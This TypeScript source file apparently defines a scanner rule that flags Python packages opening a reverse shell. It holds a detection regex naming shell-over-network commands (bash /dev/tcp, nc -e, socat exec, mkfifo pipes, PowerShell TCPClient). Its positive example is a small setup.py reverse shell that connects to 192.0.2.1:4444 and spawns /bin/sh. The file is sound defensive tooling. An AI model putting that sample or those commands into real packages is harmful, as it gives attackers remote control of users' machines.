import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { triggerOf } from '../../analysis/python/model.js';
import { lineTrigger, textHits, when } from './util.js';

const SHELL_TEXT_RE = /bash\s+-i\s*>&\s*\/dev\/tcp\/|\/dev\/tcp\/[\w.-]{1,80}\/\d{1,5}|\bnc(?:at)?\s+(?:-\w+\s+){0,4}-e\s+\/bin\/(?:ba)?sh|\bsocat\s+[^\n]{0,80}exec:|mkfifo\s+\/tmp\/\w+;\s*(?:cat|nc)|New-Object\s+System\.Net\.Sockets\.TCPClient/i;

export const reverseShell = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/reverse-shell',
    kind: 'threat',
    category: 'remote-access',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Opens a reverse shell: a socket wired to a shell (dup2/pty.spawn/subprocess with the socket as stdio, /dev/tcp, nc -e).',
    examples: {
      positive: [
        {
          files: {
            'setup.py': "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
          },
        },
      ],
      negative: [{ files: { 'pkg/srv.py': "import socket\ndef serve():\n    s = socket.socket()\n    s.bind(('127.0.0.1', 8000))\n    s.listen()\n" } }],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      const connects = file.facts.sinks.filter((s) => s.kind === 'socket');
      if (connects.length > 0) {
        const wiring = file.facts.calls.find(
          (c) =>
            c.name === 'os.dup2' ||
            c.name === 'pty.spawn' ||
            (/^subprocess\./.test(c.name) && ['stdin', 'stdout', 'stderr'].some((k) => { const v = c.kw[k]; return v !== undefined && v.k === 'unknown' && (v.from ?? '').startsWith('socket.socket'); })),
        );
        const shell = file.facts.commands.some((c) => /\/bin\/(?:ba|z)?sh\b|cmd\.exe|powershell/i.test(c.cmd)) || file.facts.calls.some((c) => c.name === 'pty.spawn');
        if (wiring !== undefined && shell) {
          const trigger = triggerOf(file, wiring);
          report({ path: file.path, line: wiring.line, col: wiring.col, trigger, ...(wiring.decoded !== undefined ? { decoded: wiring.decoded } : {}), message: `Wires a network socket to a shell (reverse shell) ${when(trigger)}.` });
          continue;
        }
      }
      for (const hit of textHits(file, SHELL_TEXT_RE, 1)) {
        const trigger = lineTrigger(file, hit.line);
        report({ path: file.path, line: hit.line, col: hit.col, trigger, ...(hit.decoded !== undefined ? { decoded: hit.decoded } : {}), message: `Contains a reverse-shell command (${hit.match.slice(0, 60)}) ${when(trigger)}.` });
      }
    }
  },
});
